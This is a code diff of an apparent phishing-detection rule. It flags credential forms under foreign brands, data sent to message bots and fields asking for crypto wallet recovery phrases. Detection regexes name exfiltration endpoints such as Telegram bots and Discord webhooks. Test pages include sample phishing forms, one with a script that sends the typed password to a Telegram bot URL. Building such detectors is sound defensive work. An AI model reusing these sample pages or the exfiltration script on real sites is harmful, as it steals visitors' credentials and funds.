@@ -1,14 +1,15 @@
 import { codePieces } from '../../facts/code/code-pieces.ts';
 import { valuesOf } from '../../facts/code/code-values.ts';
 import { type Form, type FormField, forms, looseFields, type Sensitive } from '../../facts/forms.ts';
+import { mainHeading } from '../../facts/headings.ts';
 import { externalLinks } from '../../facts/links.ts';
 import { foreignTarget } from '../../grounds/foreign-target.ts';
-import { foreignBrands } from '../../grounds/posing-as-brand.ts';
+import { foreignBrands, wornBrand } from '../../grounds/posing-as-brand.ts';
 import type { Page } from '../../page/page.ts';
 import { pageAddress } from '../../page/page-address.ts';
 import { BICYCLE, CHLEB, LIBRARY } from '../../samples/sample-prose.ts';
 import { examplePage, paragraphs } from '../example.ts';
-import { type Quote, quoteWhole } from '../quote.ts';
+import { type Quote, quoteText, quoteWhole } from '../quote.ts';
 import { quoteAct } from '../quote-script.ts';
 import { CLEAR, rule } from '../rule.ts';
 import { type Said, sentences } from '../sentences.ts';
@@ -26,7 +27,7 @@ const ASKED: Readonly<Record<Sensitive, Texts>> = {
 const DROP =
   /api\.telegram\.org\/bot|discord(?:app)?\.com\/api\/webhooks|formspree\.io|emailjs|getform\.io|web3forms|hooks\.slack\.com/i;
 const LOG_IN =
-  /log ?in|sign ?in|verify|verification|confirm your|account|secure|unlock|zaloguj|logowanie|weryfikacj|potwierdź|konto|konta/i;
+  /log ?[io]n|sign ?[io]n|verify|verification|confirm your|account|secure|unlock|zaloguj|logowanie|weryfikacj|potwierdź|konto|konta|connexion|connecter|iniciar ses|acceder|anmeld|einlogg|accedi|accesso|entrar|вход|войти|přihl|inlog|logga in|giriş|ログイン|登录/i;
 /** Beside a brand's name a page with a text of its own is an article with a login box. */
 const MAX_WORDS = 200;
 /** So few are labels and a line of welcome, whatever the title says. */
@@ -61,6 +62,16 @@ const say = sentences({
     pl: ({ title, asked, brand }) =>
       `Strona ma tytuł ${quoted.pl(title)} i prosi o ${ASKED[asked].pl}, ale jej adres nie należy do firmy ${brand}.`,
   },
+  wears_brand: {
+    en: ({ asked, brand }: { asked: Sensitive; brand: string }) =>
+      `The page asks for ${ASKED[asked].en} under the logo or the copyright line of ${brand}, but its address does not belong to that company.`,
+    pl: ({ asked, brand }) =>
+      `Strona prosi o ${ASKED[asked].pl} pod logo lub notą o prawach autorskich firmy ${brand}, ale jej adres do niej nie należy.`,
+  },
+  asks_for_phrase: {
+    en: () => 'The page asks visitors to type in the recovery phrase or the private key of a crypto wallet.',
+    pl: () => 'Strona prosi o wpisanie frazy odzyskiwania lub klucza prywatnego portfela kryptowalut.',
+  },
 });
 
 export default rule({
@@ -69,7 +80,7 @@ export default rule({
   policy: 'social_engineering',
   kind: 'violation',
   layer: 'markup',
-  version: 2,
+  version: 3,
   title: {
     en: 'A form sends sensitive data to a doubtful place',
     pl: 'Formularz wysyła poufne dane w wątpliwe miejsce',
@@ -85,13 +96,14 @@ export default rule({
   needs: { url: true },
   basis: 'measured',
   scoring:
-    'A form that asks for card, PIN, identity or bank data and is sent to another registrable domain: 0.95, for a password: 0.85; sent over plain HTTP from an HTTPS page: 0.8; typed-in data sent by script to a message bot: 0.95, to another site: 0.8; a login under the name of a well-known brand on a strange host: 0.85. Payment, sign-in and other known services, sites of the same brand and sites that the page openly links to three times do not count; plain HTTP all through: 0.4.',
+    'A form that asks for card, PIN, identity or bank data and is sent to another registrable domain: 0.95, for a password: 0.85; sent over plain HTTP from an HTTPS page: 0.8; typed-in data sent by script to a message bot: 0.95, to another site: 0.8; a login under the name or the copyright line of a well-known brand on a strange host: 0.85, under its logo alone: 0.6; a field for the recovery phrase of a crypto wallet: 0.85. Payment, sign-in and other known services, sites of the same brand and sites that the page openly links to three times do not count; plain HTTP all through: 0.4.',
   says: say,
   detect(page) {
     const signs = [
       ...forms(page).flatMap((form) => formSigns(page, form)),
       ...scriptSigns(page),
       ...brandSigns(page),
+      ...phraseSigns(page),
     ].sort((a, b) => b.score - a.score);
     const worst = signs[0];
     if (!worst) return CLEAR;
@@ -134,8 +146,42 @@ export default rule({
         body: `${paragraphs(...BICYCLE)}<form id="f"><input name="user"><input type="password" name="p"><button>Sign in</button></form><script>
           document.getElementById('f').onsubmit = function () { fetch('https://api.telegram.org/bot123:abc/sendMessage?text=' + this.p.value); };</script>`,
       }),
+      examplePage('a sign-in that wears a brand at its foot', {
+        found: { says: ['wears_brand'], quotes: ['© 2026 Microsoft'] },
+        title: 'Sign in',
+        heading: '',
+        url: 'https://mail-check.top/a',
+        body: '<form method="post" action="next.php"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="pw"><button>Next</button></form>',
+        footer: '<footer>© 2026 Microsoft. Terms of use</footer>',
+      }),
+      examplePage('a Polish code of payment on a strange host', {
+        found: { says: ['poses_as_brand'], quotes: ['BLIK'] },
+        title: 'BLIK',
+        heading: 'Płatność BLIK',
+        lang: 'pl',
+        url: 'https://odbior-przesylki.top/platnosc',
+        body: '<form method="post" action="dalej.php"><label>Kod BLIK <input type="tel" name="blikCode"></label><button>Dalej</button></form>',
+      }),
+      examplePage('the words of a wallet', {
+        found: { says: ['asks_for_phrase'], quotes: ['recovery phrase'] },
+        title: 'Connect wallet',
+        url: 'https://wallet-sync.top/',
+        body: '<p>Enter your recovery phrase to claim the airdrop.</p><form method="post" action="/go"><textarea name="phrase"></textarea><button>Connect</button></form>',
+      }),
     ],
     clear: [
+      examplePage('buttons of other services beside the own sign-in', {
+        title: 'Sign in – Mill Town Library',
+        body: '<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form><button><img src="/g.svg" alt="Google"> Continue with Google</button> <a class="social" href="/auth/fb"><img src="/f.svg" alt="Facebook"></a>',
+        footer: '<footer>© 2026 Mill Town Library</footer>',
+      }),
+      examplePage('a firm’s own mail server', {
+        title: 'Outlook',
+        heading: '',
+        url: 'https://mail.harbourcycles.net/owa/auth/logon.aspx',
+        body: '<form method="post" action="/owa/auth.owa"><input name="username"><input type="password" name="password"><button>Sign in</button></form>',
+        footer: '<footer>© 2026 Microsoft</footer>',
+      }),
       examplePage('a login on the own domain', {
         title: 'Members of the library',
         body: `${paragraphs(...LIBRARY)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
@@ -236,20 +282,79 @@ function scriptSigns(page: Page): Sign[] {
   return signs;
 }
 
+/** Sign-in pages of programs that firms run on hosts of their own show their maker's name: Exchange, ADFS. */
+const OWN_SERVER = /\/(?:adfs|owa|exchange|ecp|citrix|remote)\//i;
+const MASKS_OF_BRAND = 0.85;
+/** A logo may be that of a customer, a partner or a way to sign in. */
+const MASKS_OF_LOGO = 0.6;
+
+/** What is asked for in sight, or by a form that a script shows on a page with hardly anything else. */
+function askedHere(page: Page): Sensitive | undefined {
+  const shown = forms(page).filter((form) => !form.hidden || page.wordCount <= MAX_WORDS_BESIDE_FORM);
+  return sensitiveOf(shown.flatMap((form) => form.fields)) ?? sensitiveOf(looseFields(page));
+}
+
 function brandSigns(page: Page): Sign[] {
-  const brand = foreignBrands(page)?.[0];
-  if (brand === undefined || page.wordCount > MAX_WORDS) return [];
-  const form = forms(page).find((one) => !one.hidden && sensitiveOf(one.fields) !== undefined);
-  const asked = form ? sensitiveOf(form.fields) : undefined;
-  if (!form || asked === undefined) return [];
+  if (page.wordCount > MAX_WORDS) return [];
+  const asked = askedHere(page);
+  if (asked === undefined) return [];
+  const { base } = pageAddress(page);
+  if (OWN_SERVER.test(base?.pathname ?? '') || forms(page).some((form) => OWN_SERVER.test(form.action)))
+    return [];
+  const called = `${page.head.title} ${mainHeading(page)?.text ?? ''}`;
   // In a language whose words for signing in are not known here, a page of little else than the form says the same.
-  if (!LOG_IN.test(page.head.title) && page.wordCount > MAX_WORDS_BESIDE_FORM) return [];
-  const name = brand.replace(/(^|[\s-])\p{L}/gu, (letter) => letter.toUpperCase());
+  if (!LOG_IN.test(called) && page.wordCount > MAX_WORDS_BESIDE_FORM) return [];
+  const brand = foreignBrands(page)?.[0];
+  if (brand !== undefined)
+    return [
+      {
+        score: MASKS_OF_BRAND,
+        says: say.poses_as_brand({ title: shortened(page.head.title, 60), asked, brand: written(brand) }),
+        quote: quoteWhole(page, { in: 'title' }),
+      },
+    ];
+  const mark = wornBrand(page);
+  if (mark === undefined || page.wordCount > MAX_WORDS_BESIDE_FORM) return [];
   return [
     {
-      score: 0.85,
-      says: say.poses_as_brand({ title: shortened(page.head.title, 60), asked, brand: name }),
-      quote: quoteWhole(page, { in: 'title' }),
+      score: mark.in === 'copyright' ? MASKS_OF_BRAND : MASKS_OF_LOGO,
+      says: say.wears_brand({ asked, brand: written(mark.brand) }),
+      quote:
+        mark.in === 'copyright'
+          ? quoteText(page, mark.span)
+          : quoteWhole(page, { in: 'attribute', element: mark.element, name: 'alt' }),
+    },
+  ];
+}
+
+function written(brand: string): string {
+  return brand.replace(/(^|[\s-])\p{L}/gu, (letter) => letter.toUpperCase());
+}
+
+const PHRASE_FIELD = /phrase|mnemonic|seed|private.?key|keystore|fraz|słowa odzysk/i;
+const PHRASE_TEXT =
+  /\b(?:recovery|seed|secret|backup|mnemonic)[- ]phrase|\b(?:12|24|twelve|twenty-four)[- ]words?\b|\bprivate key\b|\bkeystore json\b|12 \(sometimes 24\)|fraz\p{L} (?:odzyskiwania|seed|bezpieczeństwa)|klucz prywatny/iu;
+/** Wallets of their own makers restore by the same words. */
+const WALLETS =
+  /(?:^|\.)(?:metamask\.io|trustwallet\.com|myetherwallet\.com|mycrypto\.com|blockchain\.com|exodus\.com|phantom\.app|electrum\.org|trezor\.io|ledger\.com|keplr\.app)$/;
+const ASKS_FOR_PHRASE = 0.85;
+
+/** The words that a wallet is restored by: whoever has them has the money. */
+function phraseSigns(page: Page): Sign[] {
+  if (page.wordCount > MAX_WORDS || WALLETS.test(pageAddress(page).host)) return [];
+  const fields = [...forms(page).flatMap((form) => form.fields), ...looseFields(page)];
+  const field = fields.find(({ element, name, type }) => {
+    if (type === 'search' || type === 'checkbox' || type === 'radio' || type === 'select') return false;
+    const { placeholder, id } = page.dom.elements[element]?.attribs ?? {};
+    return PHRASE_FIELD.test(`${name} ${id ?? ''} ${placeholder ?? ''}`.slice(0, 300));
+  });
+  const match = field ? PHRASE_TEXT.exec(page.text) : null;
+  if (!match) return [];
+  return [
+    {
+      score: ASKS_FOR_PHRASE,
+      says: say.asks_for_phrase(),
+      quote: quoteText(page, { start: match.index, end: match.index + match[0].length }),
     },
   ];
 }
